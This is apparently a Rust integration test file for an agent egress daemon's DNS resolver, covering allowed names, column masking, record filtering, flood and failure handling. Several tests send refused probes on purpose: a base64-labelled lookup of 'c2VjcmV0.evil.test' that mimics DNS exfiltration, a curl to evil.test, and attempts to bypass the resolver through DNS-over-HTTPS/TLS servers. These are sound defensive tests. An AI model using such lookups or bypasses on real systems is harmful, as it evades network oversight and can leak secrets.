//! The resolver: which names agents get addresses for, what is asked upstream, what is recorded, and which connections
//! the answers lead to.

use std::fs;
use std::io::{Read as _, Write as _};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpListener};
use std::thread;
use std::time::{Duration, Instant};

use harness::agent;
use harness::daemon::Daemon;
use harness::dns::NameServer;
use harness::process::{self, BYSTANDER, Finished, NOBODY, Talking, User};
use serde_json::Value;

use crate::spine::server;

/// What a client that is refused may take to say so; far below a resolver's timeout of 5 s.
const AT_ONCE: Duration = Duration::from_secs(3);

/// What an agent's Python may use. `ask` sends one question (as raw DNS) and returns the answer's code and records.
const PRELUDE: &str = r"
import os, socket, ssl, struct, sys, time
def question(name, kind, edns=False):
    labels = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.') if l) + b'\0'
    opt = b'\0\0\x29\x04\xd0\0\0\0\0\0\0' if edns else b''
    return struct.pack('!HHHHHH', 4711, 0x100, 1, 0, 0, len(opt) > 0) + labels + struct.pack('!HH', kind, 1) + opt
def read(answer):
    id, flags, _, count = struct.unpack('!HHHH', answer[:8])
    assert id == 4711 and flags & 0x8000
    return flags & 15, count, bool(flags & 0x200)
def ask(name, kind, to='192.0.2.53', edns=False):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(10)
        s.connect((to, 53))
        s.send(question(name, kind, edns))
        return read(s.recv(4096))
def ask_tcp(*asked):
    answers = []
    with socket.create_connection(('192.0.2.53', 53), 10) as s:
        for name, kind in asked:
            q = question(name, kind)
            s.sendall(struct.pack('!H', len(q)) + q)
        for _ in asked:
            length, = struct.unpack('!H', s.recv(2, socket.MSG_WAITALL))
            answers.append(read(s.recv(length, socket.MSG_WAITALL)))
    return answers
def addresses(name, port=0):
    try:
        return sorted({found[4][0] for found in socket.getaddrinfo(name, port, type=socket.SOCK_STREAM)})
    except socket.gaierror as e:
        return e.strerror
def seconds(call, *args):
    begun = time.monotonic()
    call(*args)
    return time.monotonic() - begun
def talk(to):
    try:
        s = socket.create_connection(to, 10)
    except OSError as e:
        return type(e).__name__
    try:
        s.sendall(b'hello'); s.shutdown(socket.SHUT_WR)
        return s.recv(64, socket.MSG_WAITALL).decode() or 'closed'
    except OSError:
        return 'closed'
";

struct Rig {
    daemon: Daemon,
    upstream: NameServer,
}

impl Rig {
    fn new(policy: &str) -> Self {
        let upstream = NameServer::start(Ipv4Addr::new(127, 53, 0, 1)).unwrap();
        let daemon = daemon(policy, upstream.address());
        Self { daemon, upstream }
    }

    fn python(&self, script: &str) -> String {
        let seen = python(&self.daemon, NOBODY, script);
        assert_eq!(seen.code, 0, "{}{}\n{}", seen.stdout, seen.stderr, self.daemon.log());
        seen.stdout.trim_end().to_owned()
    }

    /// The records of the only session with questions, once `enough` says they are all there.
    fn questions(&self, enough: impl Fn(&[Value]) -> bool) -> Vec<Value> {
        let is_dns = |session: &Value| session["opened"]["protocol"] == "dns";
        let sessions = self.daemon.until(&["sessions", "list"], |found| found.iter().any(is_dns)).unwrap();
        let found: Vec<_> = sessions.iter().filter(|session| is_dns(session)).collect();
        assert_eq!(found.len(), 1, "{sessions:#?}");
        let id = found[0]["session"].as_str().unwrap();
        self.daemon.until(&["sessions", "show", id], enough).unwrap()
    }
}

fn daemon(policy: &str, upstream: SocketAddr) -> Daemon {
    let mut daemon = Daemon::prepare(&[("net", &format!("version = 1\nname = \"net\"\n{policy}"))]).unwrap();
    let config = fs::read_to_string(daemon.config()).unwrap();
    fs::write(daemon.config(), format!("{config}\n[resolver]\nupstream = [\"{upstream}\"]\n")).unwrap();
    daemon.launch().unwrap();
    daemon
}

fn python(daemon: &Daemon, user: User, script: &str) -> Finished {
    let mut run = agent::under(daemon, user, "net").unwrap();
    run.arg(process::python()).args(["-u", "-c", &format!("{PRELUDE}\n{script}")]);
    process::finish(&mut run).unwrap()
}

fn opaque(name: &str, to: &str) -> String {
    format!("[[connection]]\nname = \"{name}\"\nto = [\"{to}\"]\nprotocol = \"opaque\"\n")
}

fn ip(text: &str) -> IpAddr {
    text.parse().unwrap()
}

/// A server that answers what it got, and counts it.
fn echo(at: &str) -> SocketAddr {
    let listener = TcpListener::bind(at).unwrap();
    let address = listener.local_addr().unwrap();
    thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { return };
            thread::spawn(move || {
                let mut got = Vec::new();
                drop(stream.read_to_end(&mut got));
                drop(stream.write_all(format!("got {} bytes", got.len()).as_bytes()));
            });
        }
    });
    address
}

/// The records of one kind of event, `refused` or `intent`, by the question's text.
fn texts<'a>(records: &'a [Value], kind: &str) -> Vec<&'a str> {
    let mut texts: Vec<_> = records
        .iter()
        .filter(|record| record["event"] == kind)
        .filter_map(|record| record["asked"]["text"]["text"].as_str())
        .collect();
    texts.sort_unstable();
    texts
}

#[test]
fn postgresql_by_name_is_verified_masked_and_recorded_under_that_name() {
    let postgres = format!(
        "[[connection]]\nname = \"shop-db\"\nto = [\"db.internal:{}\"]\nprotocol = \"postgres\"\n\
         upstream = {{ user = \"{}\", credential = \"shop-password\", tls = \"verify-full\", root_cert = \"{}\" }}\n\
         [[mask]]\non = \"postgres\"\ncolumns = [\"customers.ssn\"]\nwith = \"redact\"\n",
        server().address().port(),
        harness::postgres::ROLE,
        server().ca().display()
    );
    let rig = Rig::new(&postgres);
    rig.upstream.set("db.internal", &[(*server().address().ip()).into()]);
    let mut psql = agent::under(&rig.daemon, NOBODY, "net").unwrap();
    let target = format!("host=db.internal port={} user=agent dbname=shop", server().address().port());
    psql.args(["psql", "--no-psqlrc", "-Atc", "SELECT ssn FROM customers WHERE id = 1", &target]);
    let seen = process::finish(&mut psql).unwrap();
    assert_eq!((seen.code, seen.stdout.trim()), (0, "[redacted]"), "{}{}", seen.stderr, rig.daemon.log());
    assert_eq!(rig.upstream.asked(), ["A db.internal", "AAAA db.internal"], "once each, for us and for it");

    let records = rig.questions(|records| texts(records, "intent").len() == 2);
    assert_eq!(texts(&records, "intent"), ["A db.internal", "AAAA db.internal"]);
    let shown = rig.daemon.cli(&["sessions", "show", records[0]["session"].as_str().unwrap()]).unwrap();
    for part in [
        "(dns, ",
        "\n  from     psql[",
        "dns a (read) allowed by shop-db\n    A db.internal\n",
        "dns aaaa (read) allowed by shop-db\n    AAAA db.internal\n",
        &format!("s {}, ", server().address().ip()),
    ] {
        assert!(shown.stdout.contains(part), "no {part:?} in {}", shown.stdout);
    }
    let text = serde_json::to_string(&records).unwrap();
    assert!(text.contains(&format!("\"{}\"", server().address().ip())), "the answer is on record: {text}");
    let by_name = |session: &Value| session["opened"]["connection"] == "shop-db";
    rig.daemon.until(&["sessions", "list"], |sessions| sessions.iter().any(by_name)).unwrap();
}

#[test]
fn a_name_that_nothing_allows_is_refused_at_once_and_asked_of_nobody() {
    let rig = Rig::new(&opaque("api", "api.shop.test:443"));
    let begun = Instant::now();
    let mut getent = agent::under(&rig.daemon, NOBODY, "net").unwrap();
    let seen = process::finish(getent.args(["getent", "ahosts", "c2VjcmV0.evil.test"])).unwrap();
    assert_eq!((seen.code, seen.stdout.as_str()), (2, ""), "{}", seen.stderr);
    let mut curl = agent::under(&rig.daemon, NOBODY, "net").unwrap();
    let seen = process::finish(curl.args(["curl", "-sS", "http://evil.test/"])).unwrap();
    assert_eq!(seen.code, 6, "{}", seen.stderr);
    assert!(seen.stderr.contains("Could not resolve host: evil.test"), "{}", seen.stderr);
    assert!(begun.elapsed() < 2 * AT_ONCE, "{:?}", begun.elapsed());
    let printed = rig
        .python("print(addresses('evil.test')); print(ask('evil.test', 1), ask('evil.test', 1, edns=True))");
    assert_eq!(printed, "Temporary failure in name resolution\n(5, 0, False) (5, 0, False)");
    assert!(rig.upstream.asked().is_empty(), "{:?}", rig.upstream.asked());

    let sessions = rig.daemon.until(&["sessions", "list"], |found| found.len() == 3).unwrap();
    let mut refused = Vec::new();
    for session in &sessions {
        assert_eq!(session["opened"]["protocol"], "dns");
        let id = session["session"].as_str().unwrap();
        let records =
            rig.daemon.until(&["sessions", "show", id], |records| texts(records, "refused").len() >= 2);
        let records = records.unwrap();
        refused.extend(texts(&records, "refused").into_iter().map(str::to_owned));
        let why = serde_json::to_string(&records).unwrap();
        assert!(why.contains("no connection of policy `net` names the host"), "{why}");
    }
    for text in ["A c2vjcmv0.evil.test", "AAAA c2vjcmv0.evil.test", "A evil.test", "AAAA evil.test"] {
        assert!(refused.iter().any(|refused| refused == text), "{text}: {refused:?}");
    }
}

#[test]
fn only_addresses_of_hosts_are_answered() {
    let rig = Rig::new(&opaque("api", "api.shop.test:443"));
    rig.upstream.set("api.shop.test", &[ip("127.53.1.1"), ip("2001:db8::1")]);
    let printed = rig.python(
        "
for name, kind in [('API.shop.TEST', 1), ('api.shop.test', 28), ('api.shop.test', 65), ('api.shop.test', 64),
                   ('api.shop.test', 16), ('api.shop.test', 15), ('api.shop.test', 255), ('_x._tcp.api.shop.test', 33),
                   ('localhost', 1), ('x.localhost', 28), ('localhost', 16), ('', 2), ('api.shop.test', 12)]:
    print(name, kind, ask(name, kind)[:2])
",
    );
    let expected = [
        "API.shop.TEST 1 (0, 1)",
        "api.shop.test 28 (0, 1)",
        "api.shop.test 65 (0, 0)",
        "api.shop.test 64 (0, 0)",
        "api.shop.test 16 (5, 0)",
        "api.shop.test 15 (5, 0)",
        "api.shop.test 255 (5, 0)",
        "_x._tcp.api.shop.test 33 (5, 0)",
        "localhost 1 (0, 1)",
        "x.localhost 28 (0, 1)",
        "localhost 16 (5, 0)",
        " 2 (5, 0)",
        "api.shop.test 12 (5, 0)",
    ];
    assert_eq!(printed, expected.join("\n"));
    assert_eq!(rig.upstream.asked(), ["A api.shop.test", "AAAA api.shop.test"]);
}

#[test]
fn addresses_that_were_given_have_names() {
    let rig = Rig::new(&opaque("api", "api.shop.test:443"));
    rig.upstream.set("api.shop.test", &[ip("127.53.1.2"), ip("2001:db8::2")]);
    let printed = rig.python(
        "
def name(address):
    try:
        return socket.gethostbyaddr(address)[0]
    except OSError as e:
        return type(e).__name__
print(ask('2.1.53.127.in-addr.arpa', 12))
print(addresses('api.shop.test'))
print(name('127.53.1.2'), name('2001:db8::2'), ask('1.0.0.127.in-addr.arpa', 12)[:2])
print(ask('53.127.in-addr.arpa', 12)[0], ask('9.9.9.9.in-addr.arpa', 12)[0])
",
    );
    let expected = "(5, 0, False)\n['127.53.1.2', '2001:db8::2']\napi.shop.test api.shop.test (0, 1)\n5 5";
    assert_eq!(printed, expected);
    // Another run was given nothing.
    assert_eq!(rig.python("print(ask('2.1.53.127.in-addr.arpa', 12)[0])"), "5");
    assert!(rig.upstream.asked().iter().all(|asked| asked.ends_with(" api.shop.test")));
}

#[test]
fn tcp_is_answered_like_udp() {
    let rig = Rig::new(&opaque("api", "api.shop.test:443"));
    let many: Vec<_> = (1..=200).map(|last| ip(&format!("127.53.2.{last}"))).collect();
    rig.upstream.set("api.shop.test", &many);
    let printed = rig.python(
        "
print(ask_tcp(('api.shop.test', 1), ('evil.test', 1), ('api.shop.test', 28)))
print(ask('api.shop.test', 1), ask('api.shop.test', 1, edns=True))
os.environ['RES_OPTIONS'] = 'use-vc'
print(len(addresses('api.shop.test')))
s = socket.create_connection(('192.0.2.53', 53), 10); s.sendall(b'\\xff\\xff')
print(s.recv(9))
",
    );
    // 32 of 200 addresses; they do not fit in the 512 bytes of a client without EDNS.
    assert_eq!(
        printed,
        "[(0, 32, False), (5, 0, False), (0, 0, False)]\n(0, 0, True) (0, 32, False)\n32\nb''"
    );
    assert!(rig.upstream.asked().iter().all(|asked| asked.ends_with(" api.shop.test")));
}

#[test]
fn what_an_answer_says_of_other_names_is_nobody_s_word() {
    let target = echo("127.53.3.1:0").port();
    let policy =
        [opaque("a", &format!("a.test:{target}")), opaque("b", &format!("b.test:{target}"))].concat();
    let rig = Rig::new(&policy);
    rig.upstream.set("a.test", &[]);
    rig.upstream.add_alias("a.test", "a.test", "web.cdn.test");
    rig.upstream.add_address("a.test", "web.cdn.test", ip("127.53.3.1"));
    rig.upstream.add_address("a.test", "b.test", ip("127.53.3.9"));
    rig.upstream.add_address("a.test", "evil.test", ip("127.53.3.8"));
    rig.upstream.set("b.test", &[ip("127.53.3.2")]);
    let printed = rig.python(&format!(
        "
print(addresses('a.test'), talk(('a.test', {target})))
print(talk(('127.53.3.9', {target})), talk(('127.53.3.8', {target})))
print(addresses('b.test'), addresses('web.cdn.test'))
"
    ));
    let expected =
        "['127.53.3.1'] got 5 bytes\nclosed closed\n['127.53.3.2'] Temporary failure in name resolution";
    assert_eq!(printed, expected);
}

#[test]
fn of_two_names_with_one_address_the_one_asked_for_last_counts() {
    let target = echo("127.53.4.1:0").port();
    let policy =
        [opaque("first", &format!("one.test:{target}")), opaque("second", &format!("two.test:{target}"))];
    let rig = Rig::new(&policy.concat());
    for name in ["one.test", "two.test"] {
        rig.upstream.set(name, &[ip("127.53.4.1")]);
    }
    rig.python(&format!("print([talk((name, {target})) for name in ['two.test', 'one.test', 'two.test']])"));
    let connected = |sessions: &[Value]| -> Vec<Value> {
        let mut found: Vec<_> = sessions
            .iter()
            .filter(|session| session["opened"]["protocol"] == "opaque")
            .map(|session| session["opened"]["connection"].clone())
            .collect();
        found.sort_by_key(ToString::to_string);
        found
    };
    let sessions = rig.daemon.until(&["sessions", "list"], |found| connected(found).len() == 3).unwrap();
    assert_eq!(connected(&sessions), ["first", "second", "second"]);
}

#[test]
fn names_of_other_groups_connections_are_refused() {
    let theirs = format!("{}groups = [\"bin\"]\n", opaque("theirs", "theirs.test:443"));
    let rig = Rig::new(&[theirs, opaque("ours", "ours.test:443")].concat());
    rig.upstream.set("theirs.test", &[ip("127.53.5.1")]);
    rig.upstream.set("ours.test", &[ip("127.53.5.2")]);
    let script = "print(addresses('theirs.test'), addresses('ours.test'))";
    assert_eq!(rig.python(script), "Temporary failure in name resolution ['127.53.5.2']");
    let seen = python(&rig.daemon, BYSTANDER, script);
    assert_eq!(seen.stdout, "['127.53.5.1'] ['127.53.5.2']\n", "{}", seen.stderr);
}

#[test]
fn a_flood_of_questions_is_answered_and_repeats_are_counted() {
    let policy: String =
        (0..40).map(|number| opaque(&format!("c{number}"), &format!("n{number}.test:443"))).collect();
    let rig = Rig::new(&policy);
    for number in 0..40 {
        rig.upstream.set(&format!("n{number}.test"), &[ip("127.53.6.1")]);
    }
    rig.upstream.delay(Duration::from_millis(5));
    let printed = rig.python(
        "
from concurrent.futures import ThreadPoolExecutor
names = [f'n{i % 40}.test' if i % 2 else f'evil{i % 60}.test' for i in range(3000)]
with ThreadPoolExecutor(30) as pool:
    found = list(pool.map(addresses, names))
wrong = [(n, f) for n, f in zip(names, found) if f != (['127.53.6.1'] if n[0] == 'n' else 'Temporary failure in name resolution')]
print(sum(f == ['127.53.6.1'] for f in found), sum(f == 'Temporary failure in name resolution' for f in found), *wrong)
",
    );
    assert_eq!(printed, "1500 1500", "{}", rig.daemon.log());
    assert!(rig.upstream.asked().iter().all(|asked| asked.contains(" n")));
    let records = rig.questions(|records| serde_json::to_string(records).unwrap().contains("asked again"));
    let operations = texts(&records, "intent").len() + texts(&records, "refused").len();
    assert!((100..3000).contains(&operations), "{operations} operations stand for 6000 questions or more");
}

#[test]
fn a_dead_upstream_is_a_failure_in_time() {
    // Nobody listens there.
    let dead = TcpListener::bind("127.53.7.1:0").unwrap().local_addr().unwrap();
    let rig_daemon = daemon(&opaque("api", "api.shop.test:443"), dead);
    let seen = python(
        &rig_daemon,
        NOBODY,
        "
took = seconds(lambda: print(addresses('api.shop.test')))
print(ask('api.shop.test', 1)[0], took < 5)
",
    );
    assert_eq!(seen.stdout, "Temporary failure in name resolution\n2 True\n", "{}", rig_daemon.log());

    // One that does not answer in time is no better.
    let rig = Rig::new(&opaque("api", "api.shop.test:443"));
    rig.upstream.set("api.shop.test", &[ip("127.53.7.2")]);
    rig.upstream.delay(Duration::from_secs(30));
    assert_eq!(rig.python("print(seconds(addresses, 'api.shop.test') < 5)"), "True");
}

#[test]
fn with_the_daemon_dead_nothing_is_resolved() {
    let mut rig = Rig::new(&opaque("api", "api.shop.test:443"));
    rig.upstream.set("api.shop.test", &[ip("127.53.8.1")]);
    let script = format!(
        "{PRELUDE}
print(addresses('api.shop.test')); input()
print(seconds(lambda: print(addresses('api.shop.test'))) < 3)
print(talk(('192.0.2.53', 53))); input()
print(addresses('api.shop.test'))
"
    );
    let mut run = agent::under(&rig.daemon, NOBODY, "net").unwrap();
    run.arg(process::python()).args(["-u", "-c", &script]);
    let mut talking = Talking::spawn(&mut run).unwrap();
    talking.until_contains("['127.53.8.1']").unwrap();
    rig.daemon.kill().unwrap();
    talking.say("go on").unwrap();
    talking.until_contains("Temporary failure in name resolution").unwrap();
    talking.until_contains("True").unwrap();
    talking.until_contains("ConnectionRefusedError").unwrap();
    drop(talking.finish());
}

#[test]
fn ways_around_the_resolver_are_refused() {
    let plain = echo("127.53.9.1:0");
    let dot = TcpListener::bind("127.53.9.1:853").unwrap();
    dot.set_nonblocking(true).unwrap();
    let rig = Rig::new("[egress]\ndefault = \"record\"\n");
    for name in ["dns.google", "abc.dns.nextdns.io", "use-application-dns.net", "shop.test"] {
        rig.upstream.set(name, &[plain.ip()]);
    }
    let printed = rig.python(&format!(
        "
def greet(name):
    # What the server got: it answers no TLS, so that the client cannot be satisfied.
    i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        ssl.create_default_context().wrap_bio(i, o, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        pass
    try:
        with socket.create_connection(('{ip}', {port}), 10) as s:
            s.sendall(o.read()); s.shutdown(socket.SHUT_WR)
            return s.recv(64, socket.MSG_WAITALL).decode()[:3] or 'closed'
    except OSError:
        return 'closed'
for name in ['dns.google', 'abc.dns.nextdns.io', 'use-application-dns.net', 'shop.test', 'unheard-of.test']:
    print(name, addresses(name), greet(name))
print(talk(('{ip}', {port})), talk(('{ip}', 853)),
      talk(('1.1.1.1', 443)))
",
        ip = plain.ip(),
        port = plain.port()
    ));
    let refused = "Temporary failure in name resolution closed";
    let expected = format!(
        "dns.google {refused}\nabc.dns.nextdns.io {refused}\nuse-application-dns.net {refused}\n\
         shop.test ['127.53.9.1'] got\nunheard-of.test Name or service not known got\ngot 5 bytes closed closed"
    );
    assert_eq!(printed, expected);
    assert!(dot.accept().is_err(), "nobody got through");
    let asked = rig.upstream.asked();
    assert!(
        asked.iter().all(|asked| asked.ends_with(" shop.test") || asked.ends_with("unheard-of.test")),
        "{asked:?}"
    );
    let refused = |sessions: &[Value]| {
        sessions.iter().filter(|session| session["ended_reason"] == "refused").count() == 5
    };
    rig.daemon.until(&["sessions", "list"], refused).unwrap();
}

#[test]
fn the_resolver_shows_in_status_and_doctor() {
    let rig = Rig::new("");
    let asks = format!("asks {}", rig.upstream.address());
    for command in ["status", "doctor"] {
        let seen = rig.daemon.cli(&[command]).unwrap();
        let line = seen.stdout.lines().find(|line| line.contains("resolver: ")).unwrap_or_default();
        assert!(line.contains("127.0.0.1:") && line.ends_with(&asks), "{}", seen.stdout);
    }
    let status = rig.daemon.json(&["status"]).unwrap();
    assert_eq!(status["name_servers"], serde_json::json!([rig.upstream.address().to_string()]));
}
